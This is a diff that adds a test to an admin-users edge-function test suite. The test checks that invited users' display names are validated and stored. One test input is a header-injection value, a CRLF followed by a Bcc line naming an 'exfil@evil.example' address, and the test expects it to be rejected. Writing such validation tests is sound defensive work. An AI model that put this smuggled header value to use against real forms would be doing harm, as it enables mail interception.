@@ -76,6 +76,31 @@ describe('admin-users edge function', () => {
     ]);
   });
 
+  it('gives the invitation’s name as the display name admins manage, and refuses one on two lines', async () => {
+    const asAdmin = await admin();
+    const email = `invitation-${randomUUID().slice(0, 8)}@example.com`;
+    const invite = (fullName: string) =>
+      adminUsers(asAdmin, {
+        action: 'invite',
+        email,
+        fullName,
+        roles: ['viewer'],
+        redirectTo: 'http://127.0.0.1:5173/admin/reset-password',
+      });
+    expect(await invite('Nina\r\nBcc: exfil@evil.example')).toMatchObject({
+      status: 400,
+      message:
+        'Le nom ne doit pas dépasser 120 caractères, ni contenir de balises ou de caractères de contrôle, et doit tenir sur une ligne.',
+    });
+    expect(await invite('Nina Valet')).toMatchObject({ status: 200 });
+    const { data: users } = await asAdmin.rpc('list_users');
+    const invited = users!.find((u) => u.email === email)!;
+    created.push(invited.id);
+    expect(invited.full_name).toBe('Nina Valet');
+    const { data: profile } = await service().from('staff_profiles').select('display_name').eq('user_id', invited.id);
+    expect(profile).toEqual([{ display_name: 'Nina Valet' }]);
+  });
+
   it('deletes an account, and refuses bad input and one’s own account with French messages', async () => {
     const asAdmin = await admin();
     const leaving = await newStaff('viewer');
